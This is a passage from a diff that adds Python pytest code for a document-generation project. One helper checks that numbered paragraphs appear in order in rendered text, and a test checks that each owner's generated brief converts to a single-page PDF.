+    """Check that every numbered paragraph stands there with its number, in order."""
+    lines = [re.sub(r"\s+", " ", line).strip() for line in text.splitlines()]
+    at = lines.index("Working with this file")
+    for number, said in numbered(document):
+        first = re.sub(r"\s+", " ", said.split("\n")[0]).strip()
+        wanted = {f"{number} {first}", f"{number} {first.partition(': ')[0]}"}
+        found = [n for n in range(at, len(lines)) if lines[n] in wanted]
+        assert found, f"{number} {first}"
+        at = found[0]
+
+
+@pytest.mark.full
+@pytest.mark.parametrize("case", [case for case in CASES if case not in ("empty", "extended")])
+def test_a_brief_is_one_page(case, tmp_path):
+    plan = plan_of(case)
+    for owner in sorted({planned.item.owner for planned in plan.checklist}):
+        pdf = converted(brief(plan, LIBRARY, TODAY, owner)[1], "pdf", tmp_path)
+        assert len(re.findall(rb"/Type\s*/Page\b", pdf)) == 1, owner
